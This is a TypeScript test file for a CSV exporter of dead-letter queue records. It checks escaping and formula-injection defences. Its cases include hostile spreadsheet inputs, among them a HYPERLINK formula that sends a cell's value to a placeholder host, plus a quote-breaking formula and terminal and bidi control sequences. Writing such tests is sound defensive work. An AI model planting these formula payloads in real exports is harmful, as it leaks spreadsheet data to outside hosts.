import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { printable } from '../../../../src/domain/text/printable.ts';
import { csvLine } from '../../../../src/present/formats/csv.ts';
import { deadLetterCsv } from '../../../../src/present/list/dead-letter-csv.ts';
import { redriveCsv } from '../../../../src/present/redrive/redrive-csv.ts';
import { anySample, hostileText } from '../../../support/builders/any-dead-letter.ts';
import { examined } from '../../../support/builders/examined.ts';
import { readCsvLine } from '../../../support/terminal/csv-line.ts';

describe('a cell of CSV', () => {
  it.each<[string, string | number | null | undefined, string]>([
    ['nothing known', undefined, ''],
    ['nothing there', null, ''],
    ['an empty text', '', ''],
    ['a number', 0, '0'],
    ['a negative number', -1, '-1'],
    ['a plain text', 'größe 日本 🙂', 'größe 日本 🙂'],
    ['a comma', 'a,b', '"a,b"'],
    ['quotes', 'say "hi"', '"say ""hi"""'],
    ['spaces around', ' a ', '" a "'],
    ['line ends', 'a\r\nb\nc', 'a\\r\\nb\\nc'],
    ['a formula', '=1+1', '"\'=1+1"'],
    ['a formula with a plus', '+1', '"\'+1"'],
    ['a formula with a minus', '-1', '"\'-1"'],
    ['a formula with an at', '@SUM(A1)', '"\'@SUM(A1)"'],
    ['a formula behind spaces', '  =1', '"\'  =1"'],
    ['a formula in full width', '＝1', '"\'＝1"'],
    ['a formula that closes a quotation', '","=1', '""",""=1"'],
    ['a formula that calls out', '=HYPERLINK("http://x?"&A1,"see")', '"\'=HYPERLINK(""http://x?""&A1,""see"")"'],
    ['a tab before a formula', '\t=1', '\\t=1'],
    ['a carriage return before a formula', '\r=1', '\\r=1'],
    ['a sign within', 'a=b', 'a=b'],
    ['a terminal escape', '\u001b[31m', '\\u001b[31m'],
    ['C1, bidi marks, line separators', '\u009b\u202e\u2066\u2028\u2029', '\\u009b\\u202e\\u2066\\u2028\\u2029'],
    ['a NUL and a lone surrogate', '\u0000\ud800', '\\u0000\\ud800'],
  ])('%s', (_, cell, expected) => {
    expect(csvLine([cell])).toBe(`${expected}\n`);
  });

  it('comes back from a reader of RFC 4180 as it was shown, whatever it is, and is no formula', () => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 1, maxLength: 5 }), (cells) => {
        const line = csvLine(cells);
        const read = readCsvLine(line);
        expect(line.match(/[\n\r]/g)).toEqual(['\n']);
        const isFormula = (text: string) => /^\s*[=+\-@＝＋－＠]/.test(text);
        expect(read).toEqual(cells.map(printable).map((shown) => (isFormula(shown) ? `'${shown}` : shown)));
        for (const cell of read) expect(cell).not.toMatch(/^\s*[=+\-@]/);
      }),
      { examples: [[["'=a"]]] },
    );
  });
});

describe.each([
  ['dlq list', readCsvLine(deadLetterCsv.head)],
  ['dlq redrive', readCsvLine(redriveCsv.head)],
])('the columns of %s', (_, names) => {
  it('have a name of their own each', () => {
    expect(new Set(names).size).toBe(names.length);
  });
});

it('a row of any dead letter has a cell for each column', () => {
  const { head, line } = deadLetterCsv;
  fc.assert(
    fc.property(anySample, (sample) => {
      const cells = readCsvLine(line(examined(sample)));
      expect(cells).toHaveLength(readCsvLine(head).length);
    }),
  );
});
